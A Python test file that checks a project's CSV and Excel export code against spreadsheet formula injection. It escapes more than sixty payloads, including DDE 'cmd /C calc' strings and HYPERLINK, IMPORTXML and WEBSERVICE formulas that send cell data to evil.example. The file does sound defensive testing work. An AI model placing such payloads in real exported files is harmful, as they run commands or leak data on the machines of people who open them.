"""S10: text from people never becomes a formula, in no file, whatever it begins with."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook  # noqa: TID253  -- the file is read as a reader would

from heli.shell.tables.plain import as_csv_cell, csv_lines, of_csv_cell, safe_text
from heli.shell.tables.workbook import write_xlsx


LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%"]
ATTACKS = [
    *LEADS,
    *(f"{lead}1+1" for lead in LEADS),
    *(f"{lead}cmd|' /C calc'!A0" for lead in LEADS),
    *(f" {lead}SUM(A1:A9)" for lead in ("=", "+", "-", "@")),
    *(f"\u3000{lead}1" for lead in ("=", "＝", "@")),
    *(f"\ufeff{lead}1" for lead in ("=", "＝")),
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1234567890",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=1+1";=1+1',
    "＝ＨＹＰＥＲＬＩＮＫ（）",
]


def workbook(rows: list[list[Any]], totals: list[Any] | None = None) -> Any:
    file = io.BytesIO()
    width = len(rows[0])
    write_xlsx(
        file,
        title="建言/清单",
        header=["编号"] * width,
        widths=[12] * width,
        rows=rows,
        totals=totals or [],
    )
    file.seek(0)
    return load_workbook(file).active


def test_there_are_sixty_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


def test_workbook_holds_no_formula_and_gives_the_text_back() -> None:
    sheet = workbook([[attack] for attack in ATTACKS])

    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.quotePrefix for cell in cells} == {True}
    expected = [attack.replace("\r\n", "\n").replace("\r", "\n") for attack in ATTACKS]
    assert [cell.value.replace("\r", "\n").replace("_x000D_", "\n") for cell in cells] == expected


def test_header_that_looks_like_a_formula_is_text() -> None:
    file = io.BytesIO()
    write_xlsx(file, title="x", header=["=1+1"], widths=[10], rows=[])
    file.seek(0)

    cell = load_workbook(file).active["A1"]

    assert (cell.data_type, cell.value) == ("s", "=1+1")


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_guards_the_text(attack: str) -> None:
    assert as_csv_cell(attack) == f"'{attack}"


@pytest.mark.parametrize("plain", ["", "建议", "a=b", "3-4", "（=1）", "'90s"])
def test_csv_leaves_other_text_alone(plain: str) -> None:
    assert as_csv_cell(plain) == plain


@pytest.mark.parametrize("text", [*ATTACKS, "'=1", "''=1", "' =1", "'90s", "'", "建议"])
def test_csv_is_read_back_as_it_was(text: str) -> None:
    assert of_csv_cell(as_csv_cell(text)) == text


def test_csv_is_read_back_line_by_line() -> None:
    rows = [['a"b', "c,d", "e\nf"], ["=1", None, Decimal("-1.50")]]

    text = "".join(csv_lines(["甲", "乙", "丙"], rows))

    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:], newline=""))) == [
        ["甲", "乙", "丙"],
        ['a"b', "c,d", "e\nf"],
        ["'=1", "", "-1.50"],
    ]


def test_numbers_and_days_stay_numbers_and_days() -> None:
    moment = datetime(2020, 2, 28, 9, 30)  # noqa: DTZ001  -- a spreadsheet knows no zone

    sheet = workbook([[-12, Decimal("3.5"), date(2020, 2, 28), moment, None, True]])

    values = [cell.value for cell in next(sheet.iter_rows(min_row=2))]
    assert values[:2] == [-12, 3.5]
    assert values[2:5] == [datetime(2020, 2, 28), moment, None]  # noqa: DTZ001  -- as above
    assert isinstance(values[5], str)


def test_sheet_has_a_frozen_head_widths_and_a_total() -> None:
    sheet = workbook([["a", 1], ["b", 2]], ["合计", 3])

    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 12
    assert [cell.value for cell in sheet[4]] == ["合计", 3]
    assert [sheet[4][0].font.bold, sheet[1][0].font.bold, sheet[2][0].font.bold] == [
        True,
        True,
        False,
    ]


def test_text_that_no_file_can_hold_is_replaced_not_lost() -> None:
    assert safe_text("a\0b\ud800c") == "a�b�c"
    assert len(safe_text("长" * 40_000)) == 32_767


def test_moment_with_a_zone_is_written_in_csv_as_it_is_given() -> None:
    assert as_csv_cell(datetime(2020, 2, 28, 1, 30, tzinfo=UTC)) == "2020-02-28 01:30:00+00:00"
